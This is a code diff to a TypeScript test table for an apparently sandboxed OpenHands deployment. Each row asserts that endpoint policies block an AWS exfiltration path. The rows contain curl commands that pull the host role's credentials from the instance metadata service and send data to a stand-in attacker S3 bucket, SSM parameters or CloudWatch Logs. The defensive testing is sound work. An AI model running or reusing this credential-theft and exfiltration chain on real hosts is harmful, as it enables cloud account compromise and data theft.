@@ -1,89 +1,62 @@
 import type { Row } from "../row";
-import { blocked, from, sealed, works } from "./ways";
+import { attacker, buckets, logs, own, region, role, s3Address, signedAt, ssm } from "./requests";
+import { blocked, from, sealed } from "./ways";
 
-const region = "us-east-1";
-const s3 = "52.216.1.1";
+const parameter = ssm("PutParameter", { Name: "/$NONCE", Value: "x", Type: "String" });
+const events = { logGroupName: "$NONCE", logStreamName: "s", logEvents: [] };
+const { drop, release } = buckets;
+const address = { ssm: "10.0.1.40", logs: "10.0.1.43" } as const;
 
-/** A request that curl signs, to a service of AWS at an address, whatever the resolver says. */
-const signed = (service: string, who: string, host: string, address: string, rest: string) =>
-    `curl -k -sS -f -m 4 -o /dev/null --aws-sigv4 aws:amz:${region}:${service} ${who} --connect-to ::${address}:443 ${rest.replace("URL", `https://${host}.${region}.amazonaws.com`)}`;
+const toS3 = (who: string, host: string, rest: string) => signedAt(s3Address, "s3", who, host, rest);
+const toSsm = (who: string, rest: string) => signedAt(address.ssm, "ssm", who, "ssm", rest);
 
-const attacker = '--user "$ATTACKER_KEY:$ATTACKER_SECRET"';
-
-/** The host's own role, as its metadata hands it out. */
-const role = [
-    "m=http://169.254.169.254/latest",
-    "t=$(curl -sS -f -m 2 -X PUT -H 'x-aws-ec2-metadata-token-ttl-seconds: 60' $m/api/token)",
-    'r=$(curl -sS -f -m 2 -H "x-aws-ec2-metadata-token: $t" $m/meta-data/iam/security-credentials/)',
-    'c=$(curl -sS -f -m 2 -H "x-aws-ec2-metadata-token: $t" $m/meta-data/iam/security-credentials/$r)',
-    'key() { echo "$c" | jq -r .$1; }',
-].join("; ");
-const own = '--user "$(key AccessKeyId):$(key SecretAccessKey)" -H "x-amz-security-token: $(key Token)"';
-
-const target = (service: string, operation: string, body: string) =>
-    `-H 'content-type: application/x-amz-json-1.1' -H 'x-amz-target: ${service}.${operation}' -d "${body}" URL/`;
-
-const parameter = target(
-    "AmazonSSM",
-    "PutParameter",
-    '{\\"Name\\":\\"/$NONCE\\",\\"Value\\":\\"x\\",\\"Type\\":\\"String\\"}',
-);
-const events = '{\\"logGroupName\\":\\"$NONCE\\",\\"logStreamName\\":\\"s\\",\\"logEvents\\":[]}';
-const drop = "attackers-drop.s3";
+const anonymous = (rest: string) =>
+    `curl -k -sS -f -m 4 -o /dev/null --connect-to ::${s3Address}:443 ${rest.replace("URL", `https://${drop}.${region}.amazonaws.com`)}`;
 
 const policies = { layer: "endpoint-policies" } as const;
 
 /** AWS itself as the way out: the attacker's own account through our endpoints, and our roles where they have no business. */
 export const awsRows: readonly Row[] = from(sealed, (place) => [
-    blocked("s3-attackers-key-put", place, signed("s3", attacker, drop, s3, "-X PUT -d data URL/$NONCE"), policies),
-    blocked("s3-attackers-key-get", place, signed("s3", attacker, drop, s3, "URL/orders?x=$NONCE"), policies),
-    blocked("s3-attackers-key-list", place, signed("s3", attacker, drop, s3, "URL/?prefix=$NONCE"), policies),
-    blocked(
-        "s3-anonymous-get",
-        place,
-        `curl -k -sS -f -m 4 -o /dev/null --connect-to ::${s3}:443 https://${drop}.${region}.amazonaws.com/orders`,
-        policies,
-    ),
-    blocked(
-        "s3-anonymous-put",
-        place,
-        `curl -k -sS -f -m 4 -o /dev/null --connect-to ::${s3}:443 -X PUT -d $NONCE https://${drop}.${region}.amazonaws.com/$NONCE`,
-        policies,
-    ),
-    blocked(
-        "s3-own-role-foreign-bucket",
-        place,
-        `${role}; ${signed("s3", own, drop, s3, "-X PUT -d data URL/$NONCE")}`,
-        policies,
-    ),
-    blocked(
-        "s3-own-role-release",
-        place,
-        `${role}; ${signed("s3", own, "isolated-openhands-release-111122223333.s3", s3, "-X PUT -d data URL/host/$NONCE")}`,
-        policies,
-    ),
-    blocked("ssm-attackers-key", place, signed("ssm", attacker, "ssm", "10.0.1.40", parameter), policies),
+    blocked("s3-attackers-key-put", place, toS3(attacker, drop, "-X PUT -d data URL/$NONCE"), {
+        ...policies,
+        source: "O42",
+    }),
+    blocked("s3-attackers-key-get", place, toS3(attacker, drop, "URL/orders-$NONCE"), { ...policies, source: "O42" }),
+    blocked("s3-attackers-key-list", place, toS3(attacker, drop, "'URL/?prefix=x'"), { ...policies, source: "O42" }),
+    blocked("s3-anonymous-get", place, anonymous("URL/orders"), { ...policies, source: "O43" }),
+    blocked("s3-anonymous-list", place, anonymous("'URL/?prefix=x'"), { ...policies, source: "O43" }),
+    blocked("s3-anonymous-put", place, anonymous("-X PUT -d $NONCE URL/$NONCE"), { ...policies, source: "O43" }),
+    blocked("s3-own-role-foreign-bucket", place, `${role}; ${toS3(own, drop, "-X PUT -d data URL/$NONCE")}`, {
+        ...{ ...policies, source: "O44" },
+    }),
+    blocked("s3-own-role-release", place, `${role}; ${toS3(own, release, "-X PUT -d data URL/host/$NONCE")}`, policies),
+    blocked("s3-own-role-edges-bundle", place, `${role}; ${toS3(own, release, "URL/host/edge/$NONCE")}`, {
+        ...{ ...policies, source: "O47" },
+    }),
+    blocked("ssm-attackers-key", place, toSsm(attacker, parameter), { ...policies, source: "O45" }),
     blocked(
         "logs-attackers-key",
         place,
-        signed("logs", attacker, "logs", "10.0.1.43", target("Logs_20140328", "PutLogEvents", events)),
+        signedAt(address.logs, "logs", attacker, "logs", logs("PutLogEvents", events)),
+        { ...policies, source: "O45" },
+    ),
+    blocked("ssm-own-role-foreign-parameter", place, `${role}; ${toSsm(own, parameter)}`, policies),
+    blocked(
+        "ssm-own-role-edges-parameter",
+        place,
+        `${role}; ${toSsm(own, ssm("GetParameter", { Name: "/isolated-openhands/prod/hosts/edge" }))}`,
+        { ...policies, source: "O47" },
+    ),
+    blocked(
+        "ssm-own-role-attackers-parameter",
+        place,
+        `${role}; ${toSsm(own, ssm("GetParameter", { Name: `arn:aws:ssm:${region}:999999999999:parameter/$NONCE` }))}`,
         policies,
     ),
     blocked(
-        "ssm-own-role-foreign-parameter",
+        "ssm-own-role-attackers-document",
         place,
-        `${role}; ${signed("ssm", own, "ssm", "10.0.1.40", parameter)}`,
+        `${role}; ${toSsm(own, ssm("GetDocument", { Name: `arn:aws:ssm:${region}:999999999999:document/$NONCE` }))}`,
         policies,
-    ),
-    blocked(
-        "ssm-own-role-edges-secret",
-        place,
-        `${role}; ${signed("ssm", own, "ssm", "10.0.1.40", target("AmazonSSM", "GetParameter", '{\\"Name\\":\\"/isolated-openhands/prod/hosts/edge\\"}'))}`,
-        policies,
-    ),
-    works(
-        "ssm-own-parameter",
-        place,
-        `${role}; ${signed("ssm", own, "ssm", "10.0.1.40", target("AmazonSSM", "GetParameter", `{\\"Name\\":\\"/isolated-openhands/prod/hosts/${place.replace("-host", "")}\\"}`))}`,
     ),
 ]);
